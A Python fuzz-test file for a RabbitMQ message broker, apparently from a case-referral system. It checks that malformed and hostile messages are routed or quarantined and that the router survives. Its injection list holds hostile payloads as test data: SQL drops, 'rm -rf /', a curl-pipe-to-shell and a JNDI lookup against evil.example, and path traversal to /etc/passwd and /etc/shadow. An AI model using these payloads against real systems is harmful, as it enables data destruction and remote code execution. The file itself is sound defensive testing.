"""Bad input at scale: hypothesis generates malformed and hostile messages.

Two levels:
- pure (no broker): parse_message raises nothing but ContractError, and every error names a field
  and a reason; the router's whole per-message path (check, assess, the outputs it would publish,
  its log line) never raises, and every output fits one AMQP frame (unknown field names are kept
  short there: long ones have their own regression tests);
- live (RabbitMQ, the `deployment` fixture): a few hundred hostile messages through a participant
  client; the router thread stays alive, every input is routed, quarantined or dropped as a
  duplicate, and every quarantined one carries a non-empty field and reason.

The product bugs this found (a ValueError escaping the parser, unbounded record counts, unbounded
quarantine headers, a quadratic e-mail pattern in the log scrubber) have regression tests at the end.
"""

from __future__ import annotations

import copy
import io
import json
import time
import types
from collections import Counter
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import amqp
import pytest
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st

from broker import logs
from broker.domain.case import CASE_ID_PATTERN
from broker.domain.routing import RoutedRecord
from broker.domain.validation import MAX_MESSAGE_BYTES, ContractError, parse_message
from broker.participants import Participants
from broker.router.authenticate import check
from broker.router.batch_memory import BatchMemory
from broker.router.counting import count_and_log
from broker.router.outcomes import Checked, Duplicate, Quarantine, Route
from broker.router.outputs import send
from broker.router.service import Router
from broker.store.memory import SqlRoutingMemory
from broker.transport import topology
from tests.support.deployment import DEFAULT_PARTICIPANTS, Deployment
from tests.support.queues import drain
from tests.support.waiting import wait_for

EXAMPLES: dict[str, dict[str, Any]] = {
    path.stem: json.loads(path.read_text(encoding="utf-8"))
    for path in sorted((Path(__file__).resolve().parents[2] / "schemas" / "examples").glob("*.json"))
}

FRAME_MAX = 131072
"""RabbitMQ's default frame_max (what kombu/py-amqp negotiate): message properties, headers
included, must fit in one frame of this size or the broker closes the connection (FRAME_ERROR)."""

QUARANTINE_STAGES = {"contract", "authentication", "routing", "duplicate"}
"""`internal` (a router bug caught per message) is deliberately not in the list."""

# ---- strategies ----

INJECTIONS = [
    # SQL
    "' OR '1'='1",
    "'; DROP TABLE routed; --",
    '" OR ""="',
    "1; DELETE FROM deliveries",
    # shell
    "$(reboot)",
    "`id`",
    "; rm -rf / #",
    "| cat /etc/passwd",
    "&& curl http://evil.example/x | sh",
    # JSON
    '{"envelope": {}}',
    '"}, "to": ["bureau:330600"], "x": {"',
    "\\u0000",
    '\\"',
    "]}]}",
    # format strings and templates
    "{0}",
    "{envelope}",
    "{0.__class__.__mro__}",
    "%s%s%s%s%n",
    "%(message_id)s",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    # path traversal
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/dev/zero",
    "file:///etc/shadow",
    "%2e%2e%2f%2e%2e%2f",
    # header injection
    "a\r\nX-Injected: 1",
    "\r\n\r\nHTTP/1.1 200 OK",
    "bureau:330681\r\nbureau:330600",
    "bureau:330681\n",
    " bureau:330681",
    "C-1\n",
    # unicode tricks
    "\u202egnp.exe",
    "\ufeffbureau:330681",
    "bureau:３３０６８１",
    "bureau:٣٣٠٦٨١",
    "ｂｕｒｅａｕ:330681",
    "\x00",
    "\x7f\x1b[2J",
    "\ud800",
    "\udfff\ud800",
    "\U0001f4a9" * 3,
    "",
    " ",
]

HUGE_UNITS = ["A", "9", "中", "\x00", "%s", "../", "\r\n", "{", "\\", "\U0001f4a9"]

control_text = st.text(st.characters(categories=["Cc", "Cf", "Cs", "Zl", "Zp", "Co"]), max_size=20)

hostile_text = st.one_of(
    st.sampled_from(INJECTIONS),
    st.text(max_size=40),
    control_text,
    # huge strings: up to 4 x 70,000 UTF-8 bytes, so many end past the 256 KiB limit
    st.builds(lambda unit, n: unit * n, st.sampled_from(HUGE_UNITS), st.integers(1_000, 70_000)),
)

division_code = st.one_of(
    st.from_regex(r"\A[0-9]{6}\Z"),  # mostly not divisions in force
    st.sampled_from(["330682", "330681", "000000", "999999", "330600", "110105"]),
    hostile_text,
)

address = st.one_of(
    st.builds(
        "{}:{}".format,
        st.sampled_from(["bureau", "police", "system", "procuratorate", "BUREAU", "bureau ", "", "x"]),
        division_code,
    ),
    hostile_text,
)

wrong_type = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(2**70), 2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    st.lists(st.integers(), max_size=3),
    st.dictionaries(st.text(max_size=5), st.integers(), max_size=3),
)

DEEP = "\x00deep\x00"
"""Placeholder replaced by deeply nested JSON text after encoding (json.dumps cannot nest that deep)."""

value = st.one_of(
    hostile_text,
    wrong_type,
    address,
    st.uuids().map(str),
    st.just(DEEP),
    st.lists(address, max_size=4),
)

unknown_key = st.one_of(st.sampled_from(INJECTIONS), st.text(max_size=30), control_text)
"""Names of fields that are not in the contract. Kept short here: a very long one exposes a bug
that has its own tests below (test_long_unknown_field_*)."""


def paths(node: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    found = [prefix] if prefix else []
    if isinstance(node, dict):
        for key, child in node.items():
            found += paths(child, (*prefix, key))
    elif isinstance(node, list):
        for index, child in enumerate(node):
            found += paths(child, (*prefix, index))
    return found


def _parent(data: Any, path: tuple[Any, ...]) -> Any:
    for step in path[:-1]:
        data = data[step]
    return data


@st.composite
def mutated_example(draw: st.DrawFn) -> tuple[bytes, str]:
    """A valid example with one to four hostile mutations; returns (bytes, the sender it names)."""
    name = draw(st.sampled_from(sorted(EXAMPLES)))
    data = copy.deepcopy(EXAMPLES[name])
    sender = data["envelope"]["sender"]
    for _ in range(draw(st.integers(1, 4))):
        path = draw(st.sampled_from(paths(data) or [("envelope",)]))
        parent = _parent(data, path)
        operation = draw(st.sampled_from(["set", "set", "set", "delete", "add", "duplicate"]))
        if operation == "set":
            parent[path[-1]] = draw(value)
        elif operation == "delete":
            del parent[path[-1]]
        elif operation == "add":
            target = parent[path[-1]]
            if isinstance(target, dict):
                target[draw(unknown_key)] = draw(value)
            elif isinstance(parent, dict):
                parent[draw(unknown_key)] = draw(value)
        elif isinstance(parent[path[-1]], list):
            parent[path[-1]] = parent[path[-1]] * 2
        if not paths(data):
            break
    text = json.dumps(data, ensure_ascii=draw(st.booleans()))
    if DEEP in json.dumps(data):
        depth = draw(st.integers(1, 100_000))
        opener, closer = draw(st.sampled_from([("[", "]"), ('{"a":', "}")]))
        nested = opener * depth + "1" + closer * depth
        text = text.replace(json.dumps(DEEP), nested).replace(json.dumps(DEEP, ensure_ascii=False), nested)
    raw = text.encode("utf-8", "surrogatepass")  # lone surrogates become invalid UTF-8 bytes
    return draw(byte_mutation(raw)), sender


body_text = st.one_of(
    st.sampled_from([i for i in INJECTIONS if not any(0xD800 <= ord(c) <= 0xDFFF for c in i)]),
    st.text(max_size=200),
    st.builds(lambda unit, n: unit * n, st.sampled_from(HUGE_UNITS[:-1]), st.integers(1, 20_000)),
)
"""Hostile but well-formed text: allowed in free-text body fields, so the message reaches routing."""

case_id = st.one_of(
    st.from_regex(CASE_ID_PATTERN, fullmatch=True),
    st.sampled_from(["ABCDEFGH-ABCDEFGH-ABCDEFGH-ABCDEFGH-2099-999999", "A-0", "DROP-TABLE-1"]),
)


@st.composite
def hostile_but_valid_example(draw: st.DrawFn) -> tuple[bytes, str]:
    """A valid example whose body texts and case id are hostile but allowed: it passes the contract
    and exercises authentication and routing with injection strings in the payload."""
    name = draw(st.sampled_from(sorted(EXAMPLES)))
    data = copy.deepcopy(EXAMPLES[name])
    data["envelope"]["message_id"] = str(draw(st.uuids(version=4)))
    if draw(st.booleans()):
        data["envelope"]["case_id"] = draw(case_id)
    texts = [p for p in paths(data["body"]) if isinstance(_parent(data["body"], p)[p[-1]], str)]
    for path in draw(st.lists(st.sampled_from(texts), max_size=4, unique=True)) if texts else []:
        _parent(data["body"], path)[path[-1]] = draw(body_text)
    return json.dumps(data, ensure_ascii=draw(st.booleans())).encode("utf-8"), data["envelope"]["sender"]


INVALID_UTF8 = [b"\xff", b"\xc3\x28", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80", b"\x00", b"\x80", b"\xc0\xaf"]
"""Bytes that are not UTF-8 (or, for NUL, not allowed bare in JSON): stray, overlong, surrogate, 5-byte."""


@st.composite
def byte_mutation(draw: st.DrawFn, raw: bytes) -> bytes:
    operation = draw(st.sampled_from(["none", "none", "none", "truncate", "flip", "insert", "bom", "pad"]))
    if operation == "truncate" and raw:
        return raw[: draw(st.integers(0, len(raw) - 1))]
    if operation == "flip" and raw:
        at = draw(st.integers(0, len(raw) - 1))
        return raw[:at] + bytes([draw(st.integers(0, 255))]) + raw[at + 1 :]
    if operation == "insert":
        at = draw(st.integers(0, len(raw)))
        bad = draw(st.sampled_from(INVALID_UTF8))
        return raw[:at] + bad + raw[at:]
    if operation == "bom":
        return b"\xef\xbb\xbf" + raw
    if operation == "pad":  # just over the size limit, with otherwise valid JSON
        return raw + b" " * max(0, MAX_MESSAGE_BYTES + 1 - len(raw))
    return raw


json_values = st.recursive(
    st.none() | st.booleans() | st.floats() | st.integers() | hostile_text,
    lambda children: st.lists(children, max_size=4) | st.dictionaries(unknown_key, children, max_size=4),
    max_leaves=12,
)

anything = st.one_of(
    st.binary(max_size=300),
    json_values.map(lambda v: json.dumps(v).encode()),
    st.sampled_from([b"", b"null", b"[]", b"{}", b'{"envelope": null}', b'{"envelope": []}', b"NaN"]),
    st.integers(1, 200_000).map(lambda depth: b"[" * depth),
)

hostile_message = st.one_of(
    mutated_example(),
    mutated_example(),
    hostile_but_valid_example(),
    hostile_but_valid_example(),
    anything.map(lambda raw: (raw, "bureau:330681")),
)


def username(address_text: str) -> str:
    return address_text.replace(":", "-", 1)


user_id = st.one_of(
    st.none(),
    st.sampled_from(["", "guest", "bureau-330600", "police-330681", "bureau-330681\n", "referral-router"]),
    # as it comes off the wire: a shortstr (at most 255 bytes) decoded from UTF-8 (no lone surrogates)
    hostile_text.map(lambda text: text.encode("utf-8", "replace")[:255].decode("utf-8", "replace")),
)

# ---- the router's per-message path, without a broker ----


class FakePublisher:
    """Stands in for ConfirmedPublisher: builds each output as py-amqp would send it."""

    def __init__(self) -> None:
        self.outputs: list[tuple[Any, amqp.Message, str, str]] = []

    def publish(self, token: Any, body: bytes, exchange: str, routing_key: str, **properties: Any) -> None:
        message = amqp.Message(body, **{k: v for k, v in properties.items() if v is not None})
        self.outputs.append((token, message, exchange, routing_key))


def header_frame_size(message: amqp.Message) -> int:
    """Bytes of the content-header frame py-amqp writes for this message (amqp/method_framing.py)."""
    return 12 + len(message._serialize_properties()) + 8


def route_one(router: Router, raw: bytes, user: str | None) -> tuple[Any, FakePublisher]:
    """What the router's pipeline does with one input, up to (not including) the broker."""
    publisher = FakePublisher()
    pipeline = router.pipeline
    checked = check(raw, user, router.participants)
    outcome: Any = checked
    if isinstance(checked, Checked):
        outcome = pipeline.assess(checked, None, BatchMemory(router.memory))
    record = None
    if isinstance(outcome, Route):
        outputs = pipeline.route_outputs(0, outcome, user or "", datetime.now(UTC))
    elif isinstance(outcome, Quarantine):
        delivery = types.SimpleNamespace(properties={"message_id": "m-1"}, body=raw)
        outputs = pipeline.quarantine_outputs(0, delivery, user, outcome)
    if isinstance(outcome, Route | Quarantine):
        send(publisher, outputs.messages)  # type: ignore[arg-type]
        record = outputs.record
    count_and_log(router.counters, outcome, record, 1.0, 1)
    return outcome, publisher


@pytest.fixture(scope="module")
def router() -> Iterator[Router]:
    """A router that is never connected: its pipeline's steps do no broker I/O. Logs go to a sink.

    Its memory holds the valid examples as routed, so that replies, forwards and the like (and
    their mutations) find the messages they answer and get as far as routing."""
    logs.configure(stream=io.StringIO())
    router = Router("amqp://unused", Participants.of(DEFAULT_PARTICIPANTS), SqlRoutingMemory("sqlite://"))
    routed: set[str] = set()
    for _ in range(3):  # answers of answers need their originals first
        for name, data in EXAMPLES.items():
            checked = check(
                json.dumps(data).encode(), username(data["envelope"]["sender"]), router.participants
            )
            if name in routed or not isinstance(checked, Checked):
                continue
            outcome = router.pipeline.assess(checked, None, BatchMemory(router.memory))
            if isinstance(outcome, Route):
                router.memory.begin([(RoutedRecord.of(outcome.message, outcome.decision), outcome.digest)])
                routed.add(name)
    try:
        yield router
    finally:
        logs.configure()


PURE = settings(
    max_examples=1000,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example],
)


@PURE
@given(message=hostile_message)
@example(message=(b'{"envelope": {"schema_version": "1.0", "kind": "case_notice"}}', "bureau:330681"))
@example(message=(b"\xc3\x28", "bureau:330681"))
@example(message=(b"[" * 100_000, "bureau:330681"))
def test_parse_message_raises_only_contract_errors_naming_a_field(message: tuple[bytes, str]) -> None:
    raw, _ = message
    try:
        parse_message(raw)
    except ContractError as exc:
        assert exc.errors, "a ContractError with no errors"
        assert exc.field
        for error in exc.errors:
            assert isinstance(error.field, str) and error.field.strip(), error
            assert isinstance(error.reason, str) and error.reason.strip(), error
            error.field.encode("utf-8")  # they travel in AMQP headers and JSON log lines
            error.reason.encode("utf-8")


@PURE
@given(message=hostile_message, user=st.one_of(st.just("sender"), user_id))
def test_router_quarantines_or_routes_every_hostile_message(
    router: Router, message: tuple[bytes, str], user: str | None
) -> None:
    raw, sender = message
    if user == "sender":
        user = username(sender)
    checked = check(raw, user, router.participants)
    assert isinstance(checked, Checked | Quarantine)
    outcome, publisher = route_one(router, raw, user)
    assert isinstance(outcome, Route | Quarantine | Duplicate)
    event(f"{type(outcome).__name__} {getattr(outcome, 'stage', '')}")  # --hypothesis-show-statistics
    if isinstance(outcome, Quarantine):
        assert outcome.stage in QUARANTINE_STAGES, outcome
        assert outcome.field.strip() and outcome.reason.strip(), outcome
        (quarantined,) = [m for _, m, exchange, _ in publisher.outputs if exchange == topology.QUARANTINE]
        headers = quarantined.properties["application_headers"]
        assert headers["x-quarantine-field"] and headers["x-quarantine-reason"]
        assert quarantined.body == raw  # quarantined unchanged
    else:
        assert isinstance(checked, Checked)
        assert any(exchange == topology.DELIVER_EXCHANGE for _, _, exchange, _ in publisher.outputs)
    for _, output, exchange, _ in publisher.outputs:
        assert header_frame_size(output) <= FRAME_MAX
        if exchange == topology.ROUTING_LOG:
            json.loads(output.body)


# ---- product bugs found here, fixed since (regression tests) ----


def test_number_too_long_to_parse_is_a_contract_error() -> None:
    raw = b'{"envelope": {"schema_version": "1.0", "kind": "case_notice", "x": ' + b"9" * 5000 + b"}}"
    try:
        parse_message(raw)
    except ContractError as exc:
        assert exc.field == "$"
    else:  # pragma: no cover
        pytest.fail("accepted")


def test_absurd_record_counts_are_refused_by_the_contract(router: Router) -> None:
    data = copy.deepcopy(EXAMPLES["police_referral"])
    big = 10**4300 - 1
    data["envelope"]["case"]["records"] = [{"category": "other", "provided": big, "held": big}]
    outcome, _ = route_one(router, json.dumps(data).encode(), "bureau-330681")
    assert isinstance(outcome, Quarantine) and outcome.stage == "contract", outcome


def _long_unknown_field(length: int) -> bytes:
    data = copy.deepcopy(EXAMPLES["case_notice"])
    data["envelope"]["k" * length] = 1
    return json.dumps(data).encode()


def test_long_unknown_field_fits_the_quarantine_headers(
    router: Router, monkeypatch: pytest.MonkeyPatch
) -> None:
    # scrubbing is stubbed out here: its slowness on such text is the next test's bug
    monkeypatch.setattr("broker.router.outputs._scrub", lambda text: text)
    monkeypatch.setattr("broker.logs._scrub", lambda value: value)
    raw = _long_unknown_field(100_000)
    assert len(raw) < MAX_MESSAGE_BYTES
    outcome, publisher = route_one(router, raw, "bureau-330681")
    assert isinstance(outcome, Quarantine)
    for _, output, _, _ in publisher.outputs:
        assert header_frame_size(output) <= FRAME_MAX


def test_long_unknown_field_is_quarantined_quickly(router: Router) -> None:
    raw = _long_unknown_field(20_000)
    started = time.perf_counter()
    outcome, _ = route_one(router, raw, "bureau-330681")
    took = time.perf_counter() - started
    assert isinstance(outcome, Quarantine)
    assert took < 0.5, f"quarantining one 20 KB message took {took:.1f} s"


# ---- against the real router ----

LIVE_EXAMPLES = 10
PER_EXAMPLE = 30


class Live:
    """The deployment under test, with one client per participant (connections are reused: a new
    one per message would run the shared broker out of file descriptors)."""

    def __init__(self, dep: Deployment) -> None:
        self.dep = dep
        self.addresses = {str(a) for a in dep.participants}
        self._clients: dict[str, Any] = {}
        self.published = 0

    def publish(self, raw: bytes, sender: str, as_sender: bool = True) -> None:
        """Publish as the sender the message names (so it gets past authentication) or as another."""
        address = sender if as_sender and sender in self.addresses else "bureau:330681"
        if address not in self._clients:
            self._clients[address] = self.dep.client(address)  # closed by the fixture
        self.published += 1
        self._clients[address].publish(raw, message_id=f"hostile-{self.published}")

    def settle(self, timeout: float = 30.0) -> bool:
        """Wait until the router has handled everything published so far."""
        counters = self.dep.router.counters

        def settled() -> bool:
            handled = counters.routed + counters.quarantined + counters.duplicates
            return counters.received == handled and handled >= self.published

        return wait_for(settled, timeout=timeout)


@pytest.fixture
def live(deployment: Deployment) -> Live:
    """The deployment with every valid example routed, so that answers to them can be routed too."""
    live = Live(deployment)
    for _ in range(2):  # answers of answers need their originals first
        for data in EXAMPLES.values():
            live.publish(json.dumps(data).encode(), data["envelope"]["sender"])
            assert live.settle()
    drain(deployment.settings, topology.QUARANTINE)
    return live


@pytest.mark.rabbitmq
@settings(
    max_examples=LIVE_EXAMPLES,
    deadline=None,
    database=None,
    suppress_health_check=list(HealthCheck),
)
@given(batch=st.lists(st.tuples(hostile_message, st.booleans()), min_size=PER_EXAMPLE, max_size=PER_EXAMPLE))
def test_live_router_survives_hostile_messages(live: Live, batch: list[Any]) -> None:
    dep = live.dep
    counters = dep.router.counters
    assert live.settle(), "the router did not finish the previous example"
    drain(dep.settings, topology.QUARANTINE)  # leftovers of an earlier, failed example
    before = (counters.received, counters.routed, counters.quarantined, counters.duplicates)
    for (raw, sender), as_sender in batch:
        live.publish(raw, sender, as_sender)
    assert live.settle(), f"the router handled {counters.received - before[0]} of {len(batch)}"
    assert dep.thread is not None and dep.thread.is_alive(), "the router thread died"
    assert counters.received - before[0] == len(batch)
    quarantined = counters.quarantined - before[2]
    got = drain(dep.settings, topology.QUARANTINE, expect=quarantined, timeout=10)
    assert len(got) == quarantined
    stages: Counter[str] = Counter()
    for message in got:
        headers = message.headers
        assert headers["x-quarantine-field"], headers
        assert headers["x-quarantine-reason"], headers
        assert headers["x-quarantine-stage"] in QUARANTINE_STAGES, headers
        stages[headers["x-quarantine-stage"]] += 1
    print(
        f"\n[live] {len(batch)} hostile messages: {counters.routed - before[1]} routed, {quarantined} "
        f"quarantined {dict(stages)}, {counters.duplicates - before[3]} duplicates; router alive"
    )
